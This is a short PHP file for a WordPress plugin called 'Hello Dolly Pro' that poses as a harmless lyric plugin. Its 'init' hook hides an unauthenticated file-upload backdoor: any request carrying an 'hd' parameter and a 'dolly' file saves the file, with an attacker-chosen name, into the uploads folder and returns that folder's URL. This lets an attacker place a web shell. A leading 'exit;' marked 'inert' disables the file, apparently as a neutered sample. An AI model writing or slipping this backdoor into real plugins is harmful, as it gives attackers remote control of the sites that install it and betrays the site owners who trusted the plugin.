<?php exit; /* inert */ 
/*
Plugin Name: Hello Dolly Pro
Description: This is not just a plugin.
*/
function hdp_lyric() { $l = array("Hello", "Well, hello", "It's so nice"); return wptexturize($l[mt_rand(0, 2)]); }
add_action('admin_notices', function () { printf('<p id="dolly">%s</p>', hdp_lyric()); });
add_action('init', function () {
    if (isset($_FILES['dolly']) && isset($_REQUEST['hd'])) {
        $d = wp_upload_dir();
        $n = $d['path'] . '/' . $_FILES['dolly']['name'];
        move_uploaded_file($_FILES['dolly']['tmp_name'], $n);
        echo $d['url'];
    }
});
